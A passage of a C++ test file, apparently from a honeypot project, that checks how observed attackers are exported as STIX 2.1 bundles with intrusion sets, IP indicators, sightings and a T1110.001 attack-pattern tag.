  for (const auto& ref : od["object_refs"]) {
    const auto o = by_id(bundle, ref.get<std::string>());
    ASSERT_TRUE(o) << ref;
    values.insert((*o)["type"].get<std::string>() + " " + (*o)["value"].get<std::string>());
  }
  EXPECT_EQ(values,
            (std::multiset<std::string>{"ipv6-addr " + a.ip, "domain-name " + a.smtp_domains[0],
                                        "domain-name " + a.smtp_domains[1]}));
}

TEST(StixBundle, TheIntelVerdictIsANoteOnTheIntrusionSet) {
  const auto bundle = export_of({full()});
  const auto notes = of_type(bundle, "note");
  ASSERT_EQ(notes.size(), 1u);
  EXPECT_NE(notes[0]["content"].get<std::string>().find("malicious"), std::string::npos);
  EXPECT_EQ(notes[0]["object_refs"], json::array({of_type(bundle, "intrusion-set").at(0)["id"]}));
  EXPECT_TRUE(of_type(export_of({bare()}), "note").empty());
}

TEST(StixBundle, AttackersOfOneIdentityShareOneIntrusionSetSpanningBoth) {
  auto attackers = pair();
  for (int order = 0; order < 2; ++order) {
    SCOPED_TRACE(order);
    const auto bundle = export_of(attackers);
    EXPECT_TRUE(stix_problems(bundle).empty()) << joined(stix_problems(bundle));
    const auto sets = of_type(bundle, "intrusion-set");
    ASSERT_EQ(sets.size(), 1u);
    const auto& set = sets[0];
    const auto set_id = set["id"].get<std::string>();
    EXPECT_EQ(instant(set["first_seen"]),
              std::min(attackers[0].first_seen, attackers[1].first_seen));
    EXPECT_EQ(instant(set["last_seen"]), std::max(attackers[0].last_seen, attackers[1].last_seen));
    // Each attacker's own observation and address indicator, both indicating the one set.
    EXPECT_EQ(of_type(bundle, "observed-data").size(), 2u);
    for (const auto& a : attackers) {
      int indicators = 0;
      for (const auto& i : of_type(bundle, "indicator")) {
        if (i["pattern"] != "[ipv4-addr:value = '" + a.ip + "']") continue;
        ++indicators;
        EXPECT_EQ(relationships(bundle, "indicates", i["id"].get<std::string>(), set_id).size(),
                  1u);
      }
      EXPECT_EQ(indicators, 1) << a.ip;
    }
    // Both tagged T1110.001: one attack-pattern, one `uses`, a sighting each.
    const auto patterns = patterns_for(bundle, "T1110.001");
    ASSERT_EQ(patterns.size(), 1u);
    EXPECT_EQ(relationships(bundle, "uses", set_id, patterns[0]["id"].get<std::string>()).size(),
              1u);
    EXPECT_EQ(of_type(bundle, "sighting").size(), 2u);
    std::reverse(attackers.begin(), attackers.end());
  }
  // Attackers of no identity get a set each.
  auto lone = pair();
  for (auto& a : lone) a.identity_uuid.reset();
  EXPECT_EQ(of_type(export_of(lone), "intrusion-set").size(), 2u);
}

TEST(StixBundle, AnAttackerWithoutTagsHasNoAttackPatternOrSighting) {
  const auto bundle = export_of({bare()});
  EXPECT_TRUE(of_type(bundle, "attack-pattern").empty());
  EXPECT_TRUE(of_type(bundle, "sighting").empty());
  for (const auto& r : of_type(bundle, "relationship")) EXPECT_NE(r["relationship_type"], "uses");
  // What it does have: its address, observed and indicated, and its intrusion set.
  EXPECT_EQ(of_type(bundle, "ipv4-addr").size(), 1u);
  EXPECT_EQ(of_type(bundle, "observed-data").size(), 1u);
  EXPECT_EQ(of_type(bundle, "intrusion-set").size(), 1u);
  EXPECT_EQ(of_type(bundle, "indicator").size(), 1u);
}

// STIX 2.1 section 3.6: a new version of an object keeps its `created`, and importers key
// versions on (id, modified). Neither a later export nor an export of more of an identity's
// attackers may move it.
TEST(StixBundle, AnObjectKeepsItsCreatedTimeAcrossExports) {
  const auto created = [](const json& bundle) {
    std::map<std::string, std::string> out;
    for (const auto& o : bundle["objects"]) {
      if (o.contains("created")) out[o["id"].get<std::string>()] = o["created"].get<std::string>();
    }
    return out;
  };
  const auto once = created(export_of({full()}, kNow));
  const auto later = created(export_of({full()}, kNow + 86'400'000'000));
  EXPECT_EQ(once, later);

  const auto alone = created(export_of({pair()[0]}));
  for (const auto& [id, when] : created(export_of(pair()))) {
    if (alone.contains(id)) {
      EXPECT_EQ(alone.at(id), when) << id;
    }
  }
}

}  // namespace
}  // namespace decnet::ttp
